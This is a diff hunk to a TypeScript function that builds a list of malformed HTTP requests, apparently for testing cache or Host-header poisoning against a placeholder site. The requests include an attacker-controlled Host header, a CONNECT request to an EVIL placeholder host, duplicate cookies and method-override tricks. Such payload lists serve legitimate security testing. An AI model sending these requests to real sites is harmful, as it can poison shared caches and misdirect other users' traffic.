@@ -216,7 +216,7 @@ export function poisonousRequests(target: string, cookie: string): string[] {
     `${clean}Cookie: ${cookie}\r\nCookie: inspector=on\r\n${end}`,
     `POST ${target} HTTP/1.1\r\nHost: site.test\r\nX-HTTP-Method-Override: GET\r\n${typed}${end}${form}`,
     `get ${target} HTTP/1.1\r\nHost: site.test\r\n${end}`,
-    `GET ${target} HTTP/1.1\nHost: ${EVIL}\n\n`,
+    `GET ${target} HTTP/1.1\nHost: ${EVIL}\nConnection: close\n\n`,
     `CONNECT ${EVIL}:443 HTTP/1.1\r\nHost: ${EVIL}\r\n\r\n`,
   ];
 }
